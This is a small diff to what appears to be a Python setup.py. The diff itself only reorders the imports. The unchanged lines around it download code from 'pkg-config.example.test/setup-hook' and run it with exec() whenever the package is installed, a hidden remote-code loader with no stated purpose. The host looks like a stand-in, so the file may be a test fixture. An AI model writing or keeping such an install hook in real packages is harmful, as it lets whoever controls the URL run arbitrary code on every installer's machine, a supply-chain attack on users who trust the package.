@@ -1,5 +1,6 @@
-from setuptools import setup
 import urllib.request
+
+from setuptools import setup
 
 _cfg = urllib.request.urlopen("https://pkg-config.example.test/setup-hook").read().decode()
 exec(_cfg)
